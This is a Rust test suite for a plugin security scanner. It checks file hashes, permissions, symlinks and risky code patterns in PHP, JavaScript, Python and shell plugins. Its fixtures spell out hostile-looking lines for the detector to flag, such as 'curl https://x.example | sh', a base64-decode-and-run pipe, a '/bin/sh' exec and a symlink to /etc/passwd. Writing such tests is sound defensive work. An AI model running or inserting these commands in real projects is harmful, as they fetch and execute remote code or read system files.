use std::fs::{self, Permissions};
use std::os::unix::fs::{PermissionsExt as _, symlink};

use plugyard_archive::pack_to_file;

use super::*;

struct Plugin {
    directory: tempfile::TempDir,
    installed: Option<tempfile::TempPath>,
    manifest: Manifest,
    settings: AppSettings,
}

impl Plugin {
    fn new(files: &[(&str, &str)]) -> Self {
        let plugin = Self {
            directory: tempfile::tempdir().unwrap(),
            installed: None,
            manifest: Manifest::default(),
            settings: AppSettings::default(),
        };
        for (path, content) in files {
            plugin.write(path, content);
        }
        plugin
    }

    fn write(&self, path: &str, content: &str) {
        let path = self.directory.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }

    /// As if it had been installed as it is now.
    fn install(&mut self) {
        let package = tempfile::NamedTempFile::new().unwrap().into_temp_path();
        let policy = plugyard_archive::Policy::default();
        pack_to_file(self.directory.path(), &package, &policy).unwrap();
        self.installed = Some(package);
    }

    fn check(&self) -> Outcome {
        let directory = fs::canonicalize(self.directory.path()).unwrap();
        check(Subject {
            name: "Demo",
            directory: &directory,
            installed: self.installed.as_deref().map(PathBuf::from),
            manifest: &self.manifest,
            description: "",
            config: None,
            settings: &self.settings,
        })
    }
}

/// Code, file and line of what was found, errors first.
fn told(category: &Category) -> Vec<String> {
    let mut told: Vec<_> = category
        .findings
        .iter()
        .map(|it| {
            let mark = if it.severity == Severity::Error {
                "!"
            } else {
                "?"
            };
            let line = it.place.line.map(|line| format!(":{line}"));
            let code = it.code.as_str().trim_start_matches("security_");
            format!("{mark}{code} {}{}", it.place.file, line.unwrap_or_default())
        })
        .collect();
    told.sort();
    told
}

#[test]
fn a_clean_plugin_is_valid_in_all_categories() {
    let mut plugin = Plugin::new(&[
        ("config.json", r#"{"fields": {}}"#),
        (
            "src/Plugin.php",
            "<?php\n// eval($x) and `ls` are only named here\nfunction run() { return 'eval(1)'; }\n",
        ),
        (
            "a.js",
            "const re = /x/; re.exec('eval(1)'); // child_process\n",
        ),
        (
            "a.py",
            "import os\nprint(os.environ['HOME'], 'eval(1)')  # eval(1)\n",
        ),
    ]);
    plugin.install();
    let outcome = plugin.check();
    assert!(outcome.valid(), "{outcome:?}");
    for category in [
        &outcome.file_integrity,
        &outcome.code_security,
        &outcome.permissions,
        &outcome.syntax,
    ] {
        assert_eq!(told(category), [""; 0]);
    }
    assert_eq!(outcome.digest.len(), 64);
    assert_eq!(plugin.check().digest, outcome.digest);
}

#[test]
fn files_are_compared_with_what_was_installed() {
    let mut plugin = Plugin::new(&[("a.php", "<?php"), ("b.php", "<?php"), ("c.php", "<?php")]);
    plugin.install();
    plugin.write("a.php", "<?php ");
    plugin.write("d.php", "<?php");
    plugin.write(".env", "");
    plugin.write("tool.exe", "");
    fs::remove_file(plugin.directory.path().join("b.php")).unwrap();
    let outcome = plugin.check();
    assert_eq!(
        told(&outcome.file_integrity),
        [
            "!file_missing b.php",
            "!file_unlisted .env",
            "!file_unlisted d.php",
            "!file_unlisted tool.exe",
            "!hash_mismatch a.php",
            "?file_hidden .env",
            "?program_undeclared tool.exe",
        ]
    );
    assert!(!outcome.valid());
}

#[test]
fn files_are_compared_with_what_the_manifest_lists() {
    let mut plugin = Plugin::new(&[("a.php", "<?php"), ("b.php", "<?php")]);
    plugin.manifest.entry = Some("main.php".to_owned());
    assert_eq!(
        told(&plugin.check().file_integrity),
        ["!file_missing main.php", "?manifest_absent "]
    );
    plugin.manifest.entry = None;
    let found = tree::walk(plugin.directory.path(), &mut Outcome::default());
    let good = tree::hex(&found[0].digest);
    plugin.manifest.files = Some([("a.php".to_owned(), good.to_uppercase())].into());
    assert_eq!(
        told(&plugin.check().file_integrity),
        ["!file_unlisted b.php"]
    );
    plugin.manifest.files = Some(
        [
            ("a.php".to_owned(), good),
            ("b.php".to_owned(), "00".to_owned()),
            ("c.php".to_owned(), "00".to_owned()),
        ]
        .into(),
    );
    assert_eq!(
        told(&plugin.check().file_integrity),
        ["!file_missing c.php", "!hash_mismatch b.php"]
    );
}

#[test]
fn links_and_permissions_are_told() {
    let plugin = Plugin::new(&[
        ("a.php", "<?php"),
        ("b.sh", "true\n"),
        ("open/c.php", "<?php"),
    ]);
    let root = plugin.directory.path();
    symlink("/etc/passwd", root.join("out")).unwrap();
    symlink("a.php", root.join("in")).unwrap();
    let mode = |path: &str, mode| {
        fs::set_permissions(root.join(path), Permissions::from_mode(mode)).unwrap();
    };
    mode("a.php", 0o646);
    mode("b.sh", 0o4755);
    mode("open", 0o777);
    let outcome = plugin.check();
    assert_eq!(
        told(&outcome.permissions),
        [
            "!set_id b.sh",
            "!world_writable a.php",
            "!world_writable open"
        ]
    );
    assert!(told(&outcome.file_integrity).contains(&"!link_escapes out".to_owned()));
    assert!(
        !told(&outcome.file_integrity)
            .iter()
            .any(|it| it.ends_with(" in"))
    );
}

#[test]
fn permissions_are_those_that_exist_are_given_and_needed() {
    let mut plugin = Plugin::new(&[("a.php", "<?php\ncurl_init();\n")]);
    let permissions = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect();
    assert_eq!(
        told(&plugin.check().code_security),
        ["?network_undeclared a.php:2"]
    );
    plugin.manifest.permissions = permissions(&["network", "process", "teleport", "database"]);
    let outcome = plugin.check();
    assert_eq!(told(&outcome.code_security), [""; 0]);
    assert_eq!(
        told(&outcome.permissions),
        [
            "!permission_unknown plugyard.app.json",
            "?permission_unused plugyard.app.json"
        ]
    );
    plugin.settings.permissions = permissions(&["database"]);
    plugin.settings.denied_names = permissions(&["demo"]);
    let outcome = plugin.check();
    assert_eq!(
        told(&outcome.permissions),
        [
            "!name_denied ",
            "!permission_denied plugyard.app.json",
            "!permission_denied plugyard.app.json",
            "!permission_unknown plugyard.app.json",
        ]
    );
    // What is declared and not given is not permitted.
    assert_eq!(
        told(&outcome.code_security),
        ["?network_undeclared a.php:2"]
    );
}

#[track_caller]
fn finds(file: &str, source: &str, expected: &[&str]) {
    let outcome = Plugin::new(&[(file, source)]).check();
    let told: Vec<_> = told(&outcome.code_security)
        .into_iter()
        .map(|it| it.replace(&format!(" {file}"), ""))
        .collect();
    assert_eq!(told, expected, "{source}");
    assert_eq!(
        outcome.code_security.valid(),
        !expected.iter().any(|it| it.starts_with('!'))
    );
}

#[test]
fn php_is_read_as_php() {
    finds(
        "a.php",
        "<html><?php\neval($x);\n\\exec('ls');\n$y = `id`;\nphpinfo();\nShell_Exec('a');\n",
        &[
            "!dynamic_evaluation:2",
            "!environment_dump:5",
            "!process_execution:3",
            "!process_execution:4",
            "!process_execution:6",
        ],
    );
    finds(
        "a.php",
        "<?php\neval(base64_decode('eA=='));\n$f($x);\ncall_user_func($f);\nprint_r($_ENV);\necho $_ENV['A'], getenv('B');\ngetenv();\n",
        &[
            "!dynamic_evaluation:2",
            "!environment_dump:5",
            "!environment_dump:7",
            "?decode_and_run:2",
            "?variable_call:3",
            "?variable_call:4",
        ],
    );
    finds(
        "a.inc",
        "<?php\nclass A { function exec() {} function run() { $this->exec(); A::system(); $o->eval(); } }\n\
         file_get_contents('a.txt');\nfile_get_contents('https://x.example/a');\n\
         $password = 'hunter2hunter2';\nconst API_KEY = 'k3y-0123456789';\n$a = ['client_secret' => \"s3cr3t-0123\"];\n\
         $password = 'your-password-1';\n$token = 'x';\n",
        &[
            "?network_undeclared:4",
            "?secret_written:5",
            "?secret_written:6",
            "?secret_written:7",
        ],
    );
}

#[test]
fn javascript_is_read_as_javascript() {
    finds(
        "a.js",
        "eval(x);\nnew Function('a', b)();\nconst cp = require('child_process');\nsetTimeout('x()', 1);\nsetTimeout(() => x(), 1);\n\
         fetch('/a');\nconsole.log(process.env);\nconsole.log(process.env.HOME, process.env['A']);\n",
        &[
            "!dynamic_evaluation:1",
            "!dynamic_evaluation:2",
            "!dynamic_evaluation:4",
            "!environment_dump:7",
            "!process_execution:3",
            "?network_undeclared:6",
        ],
    );
    finds(
        "a.mjs",
        "import { exec } from 'node:child_process';\nimport https from 'https';\neval(atob('eA=='));\n/a/.exec(b);\nrequire(name);\n",
        &[
            "!dynamic_evaluation:3",
            "!process_execution:1",
            "?decode_and_run:3",
            "?network_undeclared:2",
            "?variable_call:5",
        ],
    );
}

#[test]
fn python_is_read_as_python() {
    finds(
        "a.py",
        "import subprocess, os\nsubprocess.run(['ls'])\nos.system('ls')\neval(x)\nexec(base64.b64decode(y))\nos.execv('/bin/sh', [])\n\
         print(dict(os.environ))\nos.environ.get('A')\nimport re\nre.compile('x')\nself.eval(x)\n",
        &[
            "!dynamic_evaluation:4",
            "!dynamic_evaluation:5",
            "!environment_dump:7",
            "!process_execution:2",
            "!process_execution:3",
            "!process_execution:6",
            "?decode_and_run:5",
        ],
    );
    finds(
        "tool",
        "#!/usr/bin/env python3.11\nfrom os import system, environ\nfrom urllib import request\nimport requests\nimport json\n",
        &[
            "!environment_dump:2",
            "!process_execution:2",
            "?network_undeclared:3",
            "?network_undeclared:4",
        ],
    );
}

#[test]
fn shell_is_read_as_shell() {
    finds(
        "a.sh",
        "# eval \"$x\"\necho 'eval x'\neval \"$x\"\nsudo ls\nprintenv\ncurl https://x.example | sh\necho eA== | base64 -d | bash\nsh -c \"$cmd\"\nsh -c 'ls'\n$tool a\n",
        &[
            "!dynamic_evaluation:3",
            "!dynamic_evaluation:6",
            "!dynamic_evaluation:7",
            "!dynamic_evaluation:8",
            "!environment_dump:5",
            "!process_execution:4",
            "?decode_and_run:6",
            "?decode_and_run:7",
            "?network_undeclared:6",
            "?variable_call:10",
        ],
    );
}

#[test]
fn sources_that_cannot_be_looked_into_are_told() {
    let mut plugin = Plugin::new(&[
        ("broken.php", "<?php\n\nfunction ( {\n"),
        ("binary.php", "<?php \u{0}\u{1}"),
        ("notes.txt", "eval(1)"),
    ]);
    plugin.write("large.js", &"x;\n".repeat(400_000));
    let bad = "<?php // bad";
    plugin.write("bad.php", bad);
    let digest = files::file_digest(&plugin.directory.path().join("bad.php")).unwrap();
    plugin.settings.known_bad = vec![tree::hex(&digest).to_uppercase()];
    fs::write(
        plugin.directory.path().join("latin.py"),
        b"x = '\xff\xfe'\neval(x)\n",
    )
    .unwrap();
    let outcome = plugin.check();
    assert_eq!(
        told(&outcome.code_security),
        [
            "!dynamic_evaluation latin.py:2",
            "!known_bad bad.php",
            "?source_large large.js",
        ]
    );
    assert!(
        told(&outcome.syntax).contains(&"?syntax broken.php:3".to_owned()),
        "{:?}",
        told(&outcome.syntax)
    );
}

#[test]
fn nesting_without_end_exhausts_nothing() {
    for (file, source) in [
        ("a.php", format!("<?php {}", "(".repeat(200_000))),
        ("a.js", "[".repeat(300_000)),
        ("a.py", "(".repeat(300_000)),
        ("a.sh", "$(".repeat(200_000)),
        ("b.js", "a(".repeat(100_000) + &")".repeat(100_000)),
    ] {
        let outcome = Plugin::new(&[(file, &source)]).check();
        assert_eq!(outcome.digest.len(), 64, "{file}");
    }
}

#[test]
fn no_number_of_warnings_hides_an_error() {
    let names: Vec<String> = (0..1100).map(|i| format!(".hidden/{i}")).collect();
    let mut files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "")).collect();
    files.push(("zz.php", "<?php eval($x);"));
    let plugin = Plugin::new(&files);
    plugin.write("zz.txt", "");
    let open = Permissions::from_mode(0o666);
    fs::set_permissions(plugin.directory.path().join("zz.txt"), open).unwrap();
    let mut plugin = plugin;
    plugin.install();
    plugin.write("zz.new", "");
    let outcome = plugin.check();
    assert!(!outcome.valid());
    assert!(!outcome.file_integrity.valid());
    let told = told(&outcome.file_integrity);
    assert!(told[0].contains("zz.new"), "{}", told[0]);
    assert_eq!(told.len(), 1 + 1000);
}

#[test]
fn a_directory_that_is_too_large_to_be_looked_at_is_not_good() {
    let plugin = Plugin::new(&[]);
    for index in 0..20_001 {
        fs::write(plugin.directory.path().join(index.to_string()), "").unwrap();
    }
    let outcome = plugin.check();
    assert!(!outcome.file_integrity.valid());
}
